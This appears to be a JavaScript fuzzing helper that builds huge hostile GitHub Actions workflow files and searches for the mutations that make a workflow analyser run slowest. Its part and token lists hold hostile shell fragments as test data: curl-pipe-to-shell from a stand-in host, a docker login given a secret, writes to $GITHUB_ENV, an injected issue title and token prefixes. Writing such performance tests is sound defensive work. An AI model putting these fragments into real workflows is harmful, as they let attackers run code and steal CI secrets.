// Hostile workflow files: how they are made, and the search for slower ones.
import { madeWorkflow } from './made-workflows.mjs';

const head = 'on: [issues, workflow_run]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          ';
const secret = `\${{ secrets.A }}`;
const title = `\${{ github.event.issue.title }}`;

/** Parts that are repeated until a file is long enough; each took too long once, or was found by the search. */
export const hostileParts = [
  // The slowest that hours of searching found.
  ';a',
  'a&',
  'curl -fsSL https://a.test/x.sh | sh\n          ',
  `docker login -p ${secret} `,
  'echo $A $B $C >> $GITHUB_ENV ',
  '`curl x` ',
  'bash <(curl x)\n          ',
  'sudo ',
  '{ a; ',
  'git fetch :pull/',
  'A=$(cat f) tee $GITHUB_ENV <<< "$A" ',
  `echo ${title} | base64\n          `,
];

export const hostileFile = (part, length = 405_000) =>
  head + part.repeat(Math.ceil(length / part.length)).slice(0, length);

const tokens = [
  ...hostileParts,
  '$(',
  '`',
  '"',
  "'",
  ')',
  '{ ',
  '} ',
  '( ',
  '\n          ',
  '; ',
  ' | ',
  ' && ',
  ' > x',
  ' >> $GITHUB_ENV',
  '<<EOF',
  '\n          EOF\n          ',
  '<<< x',
  '\\',
  '# ',
  '::set-output ',
  '-----BEGIN ',
  'eyJa',
  'ghp_',
  '- uses: a/b@v1\n',
  `\${{`,
  '}}',
  `\${{ a.b['c'] }}`,
  ' if a; then ',
  'fi',
  '\n      - uses: actions/checkout@v4\n      - run: |\n          ',
  '\n  b:\n    needs: a\n    runs-on: x\n    steps:\n      - run: |\n          ',
  '&a ',
  '*a',
  '[',
  ']',
  ': ',
  '\t',
  '\u{E0041}',
];

/** The slowest of parts that are changed again and again; `msOf` tells how long a part takes. */
export function searchSlowest({ random, msOf, seconds, found }) {
  const pick = (list) => list[random(list.length)];
  let best = hostileParts.map((part) => ({ part, ms: 0 }));
  const until = performance.now() + seconds * 1000;
  for (let tried = 0; performance.now() < until; tried++) {
    const part = mutated(pick(best).part, random, pick);
    // The better of two: the collector may have been at work.
    const ms = Math.min(msOf(part), msOf(part));
    const slowest = best[0].ms;
    best = [...best, { part, ms }].sort((a, b) => b.ms - a.ms).slice(0, 20);
    if (ms > slowest * 1.1) found({ tried, part, ms });
  }
  return best;
}

function mutated(part, random, pick) {
  const at = random(part.length + 1);
  const change = pick([
    () => part.slice(0, at) + pick(tokens) + part.slice(at),
    () => part.slice(0, at) + part.slice(at + 1 + random(20)),
    () => part + pick(tokens),
    () => part.slice(0, at) + pick(tokens).repeat(1 + random(20)) + part.slice(at),
    () => part.slice(at) + part.slice(0, at),
    () => part + madeWorkflow(random).slice(at, at + random(200)),
  ]);
  return change().slice(0, 2000) || 'x';
}
